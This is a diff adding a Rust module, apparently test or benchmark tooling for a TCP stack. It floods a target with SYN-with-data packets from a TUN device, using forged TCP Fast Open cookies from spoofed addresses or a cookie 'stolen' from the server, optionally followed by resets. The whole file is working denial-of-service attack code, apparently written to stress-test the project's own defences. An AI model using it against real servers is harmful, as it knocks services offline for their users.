@@ -1,0 +1,151 @@
+//! An attacker: SYNs with data at a steady rate, from a TUN device whose network is the attacker's.
+//!
+//! What the server answers is read only as far as it takes to steal one cookie, and then left to overflow.
+
+use std::io;
+use std::net::{IpAddr, Ipv4Addr, SocketAddr};
+use std::time::{Duration, Instant};
+
+use brisk_packet_io::tun::{TunDevice, TunOptions};
+use brisk_wire::{
+    ChecksumCheck, ChecksumFill, Cookie, FastOpen, Flags, IpMeta, Packet, SeqNum, TcpHeader, emit, parse,
+};
+
+/// What is sent.
+#[derive(Clone, Copy, PartialEq, Eq, Debug, clap::ValueEnum)]
+pub(crate) enum Kind {
+    /// SYNs with data and drawn cookies from drawn addresses.
+    Forged,
+    /// SYNs with data and one good cookie from the address that it belongs to.
+    Stolen,
+    /// The same, each followed by a reset.
+    StolenAndReset,
+}
+
+/// The flags of `flood`.
+#[derive(Clone, Debug, clap::Args)]
+pub(crate) struct Flood {
+    /// TUN device to send from
+    #[arg(long)]
+    tun: String,
+    /// The attackers' network: its first three numbers; an address of the kernel in it is .1
+    #[arg(long, default_value = "10.66.0.0", value_name = "ADDR")]
+    network: Ipv4Addr,
+    /// Whom to attack
+    #[arg(long)]
+    to: SocketAddr,
+    /// SYNs a second
+    #[arg(long)]
+    rate: u64,
+    /// For so many seconds
+    #[arg(long)]
+    seconds: u64,
+    #[arg(long, value_enum)]
+    kind: Kind,
+}
+
+/// How often it sends.
+const TICK: Duration = Duration::from_millis(1);
+
+/// Sends until the time is over; prints how many SYNs and how many of the packets found no room.
+pub(crate) fn flood(flood: &Flood) -> io::Result<()> {
+    let mut attacker = Attacker::new(flood)?;
+    println!("ready");
+    let stolen = match flood.kind {
+        Kind::Forged => None,
+        Kind::Stolen | Kind::StolenAndReset => Some(attacker.steal()?),
+    };
+    let began = Instant::now();
+    let (mut sent, mut refused) = (0, 0);
+    while began.elapsed() < Duration::from_secs(flood.seconds) {
+        let due = (began.elapsed().as_secs_f64() * flood.rate as f64) as u64;
+        while sent < due {
+            refused += u64::from(!attacker.attack(flood.kind, stolen)?);
+            sent += 1;
+        }
+        std::thread::sleep(TICK);
+    }
+    println!("{sent} SYNs, {refused} found no room");
+    Ok(())
+}
+
+struct Attacker {
+    tun: TunDevice,
+    own: u32,
+    to: SocketAddr,
+    draw: u64,
+    packet: Vec<u8>,
+}
+
+impl Attacker {
+    /// The thief's place in the network of the attackers.
+    const THIEF: u32 = 66;
+
+    fn new(flood: &Flood) -> io::Result<Attacker> {
+        let options = TunOptions { offload: false, ..TunOptions::default() };
+        let mut tun = TunDevice::open(&flood.tun, options).map_err(io::Error::other)?;
+        let own = flood.network.to_bits() & 0xffff_0000;
+        tun.configure(IpAddr::V4(Ipv4Addr::from_bits(own + 1)), 16, 1500).map_err(io::Error::other)?;
+        Ok(Attacker { tun, own, to: flood.to, draw: 12_345, packet: Vec::new() })
+    }
+
+    /// 64 bits of no consequence.
+    fn draw(&mut self) -> u64 {
+        self.draw = self.draw.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        self.draw ^ (self.draw >> 29)
+    }
+
+    fn header(&self, from: u16, seq: u32, flags: Flags) -> TcpHeader {
+        let (src_port, dst_port) = (from, self.to.port());
+        TcpHeader { src_port, dst_port, seq: SeqNum(seq), flags, window: 65_535, ..TcpHeader::default() }
+    }
+
+    /// Whether there was room for the packet.
+    fn send(&mut self, from: u32, tcp: &TcpHeader, payload: &[u8]) -> io::Result<bool> {
+        let meta = IpMeta::new(IpAddr::V4(Ipv4Addr::from_bits(from)), self.to.ip());
+        emit(&meta, tcp, &[payload], ChecksumFill::Full, &mut self.packet).map_err(io::Error::other)?;
+        match self.tun.send_raw(&self.packet) {
+            Ok(()) => Ok(true),
+            Err(error) if error.kind() == io::ErrorKind::WouldBlock => Ok(false),
+            Err(error) => Err(error),
+        }
+    }
+
+    /// The cookie of the thief's own address.
+    fn steal(&mut self) -> io::Result<FastOpen> {
+        let mut syn = self.header(9, 1, Flags::SYN);
+        syn.options.fast_open = Some(FastOpen::REQUEST);
+        let mut buffer = vec![0; 1 << 16];
+        for _ in 0..50 {
+            self.send(self.own + Attacker::THIEF, &syn, &[])?;
+            std::thread::sleep(Duration::from_millis(100));
+            let mut cookie = None;
+            while let Ok(len) = self.tun.recv(&mut buffer) {
+                if let Ok(Packet::Tcp(segment)) = parse(&buffer[..len], ChecksumCheck::Trust) {
+                    cookie = cookie.or(segment.tcp.options.fast_open);
+                }
+            }
+            if let Some(cookie) = cookie {
+                return Ok(cookie);
+            }
+        }
+        Err(io::Error::other("the server gives no cookie: nothing to steal"))
+    }
+
+    fn attack(&mut self, kind: Kind, stolen: Option<FastOpen>) -> io::Result<bool> {
+        let draw = self.draw();
+        let [a, b, ..] = draw.to_le_bytes();
+        let host = if stolen.is_some() { Attacker::THIEF } else { 2 + (draw >> 16) as u32 % 65_000 };
+        let (port, seq) = (1024 | u16::from_le_bytes([a, b]), (draw >> 32) as u32);
+        let cookie = stolen.or_else(|| Cookie::new(&draw.to_be_bytes()).map(FastOpen::with_cookie));
+        let mut syn = self.header(port, seq, Flags::SYN);
+        syn.options.mss = Some(1460);
+        syn.options.fast_open = cookie;
+        let room = self.send(self.own + host, &syn, &[b'.'; 100])?;
+        if kind == Kind::StolenAndReset {
+            let reset = self.header(port, seq.wrapping_add(101), Flags::RST);
+            self.send(self.own + host, &reset, &[])?;
+        }
+        Ok(room)
+    }
+}
